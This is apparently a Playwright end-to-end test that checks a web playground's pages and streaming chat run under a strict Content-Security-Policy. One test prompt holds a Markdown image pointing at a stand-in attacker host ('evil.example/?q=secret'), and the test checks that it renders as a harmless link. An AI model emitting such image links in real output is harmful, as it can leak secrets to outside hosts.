"""Every page a person sees works under the strict Content-Security-Policy
(playground/csp.py): chromium loads each one, and every interaction a test here makes on
it, with zero policy violations (``securitypolicyviolation`` events, console messages
about the policy, uncaught script errors), and a Send still streams over the websocket."""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import expect

from playground import share_links
from playground.models import Audience, Membership, Session, Team
from tests.conftest import PASSWORD
from tests.e2e.test_comparison import set_pane

# Echo answers with the prompt: an aligned Markdown table (its cells a class each, not an
# inline style) and an image that must stay a link.
PROMPT = (
    "Here:\n\n| left | right |\n|:-----|------:|\n| 1 | 2 |\n\n![x](https://evil.example/?q=secret)"
)

RECORD = """
window.__violations = [];
document.addEventListener("securitypolicyviolation", function (e) {
  window.__violations.push(e.violatedDirective + " " + e.blockedURI + " " + (e.sample || ""));
});
"""


class Watch:
    """What went wrong on the pages of one browser context, page after page."""

    def __init__(self, page: Any) -> None:
        self.page = page
        self.problems: list[str] = []
        page.on("console", self._console)
        page.on("pageerror", lambda error: self.problems.append(f"script error: {error}"))

    def _console(self, message: Any) -> None:
        text = message.text
        if "Content Security Policy" in text or "Refused to" in text:
            self.problems.append(f"console: {text}")

    def check(self, where: str) -> None:
        """No violation so far on the page shown now (its own record) or any before."""
        violations = self.page.evaluate("window.__violations || []")
        self.problems += [f"{where}: {v}" for v in violations]
        assert self.problems == [], self.problems

    def visit(self, url: str) -> None:
        response = self.page.goto(url)
        assert response is not None and response.status == 200, url
        policy = response.headers["content-security-policy"]
        assert "'unsafe-inline'" not in policy and "'unsafe-eval'" not in policy
        self.page.wait_for_load_state("networkidle")
        self.check(url)


@pytest.fixture
def watched(browser: Any, stack: Any, e2e_user: Any, clean_redis: Any) -> Iterator[Watch]:
    # The person is also a site admin, to see the admin's index.
    type(e2e_user).objects.filter(pk=e2e_user.pk).update(is_staff=True, is_superuser=True)
    context = browser.new_context(base_url=stack.url)
    context.set_default_timeout(15_000)
    context.add_init_script(RECORD)
    page = context.new_page()
    watch = Watch(page)
    yield watch
    context.close()


def test_every_page_passes_the_policy_and_a_send_still_streams(
    watched: Watch, stack: Any, e2e_user: Any
) -> None:
    page = watched.page
    watched.visit("/login/")
    page.get_by_label("Username").fill(e2e_user.username)
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Sign in").click()
    page.wait_for_url(stack.url + "/")
    stack.wait_for_catalog(page.context.request)
    watched.visit("/")

    # A Send streams into both panes over the websocket (connect-src 'self').
    for index in (0, 1):
        set_pane(page, index, "Echo", "0.5", delay_ms="40", repeat="2")
    page.get_by_label("Prompt").fill(PROMPT)
    page.get_by_role("button", name="Send").click()
    page.wait_for_url(re.compile(r"/s/\d+/$"))
    streaming = page.locator("article[data-active] .text").first
    expect(streaming).not_to_be_empty()  # words arrived while the answer was streaming
    expect(page.locator("article.status-done")).to_have_count(2, timeout=20_000)
    answer = page.locator("section.pane").first.locator("article .markdown").last
    expect(answer.locator("td.align-right").first).to_have_text("2")
    expect(answer.get_by_role("link", name="[image: x]").first).to_be_visible()
    assert answer.locator("img").count() == 0
    watched.check("after a Send")

    session = Session.objects.get(owner=e2e_user)
    watched.visit(f"/s/{session.pk}/")  # a session with answers, opened afresh
    page.locator("#session-search").fill("right")  # the sidebar's search
    expect(page.locator("#session-list")).to_contain_text("Here")
    watched.check("search")

    _link, token = share_links.create_link(session, e2e_user, Audience.ANYONE, "never")
    team = Team.objects.create(name="Research")
    Membership.objects.create(team=team, user=e2e_user, role="owner")
    for url in [
        "/keys/",
        "/endpoints/",
        "/teams/",
        f"/teams/{team.pk}/",
        "/usage/",
        "/sets/",
        f"/shared/{token}/",
        "/admin/",
        "/admin/playground/credential/",
        "/admin/playground/credential/add/",
    ]:
        watched.visit(url)
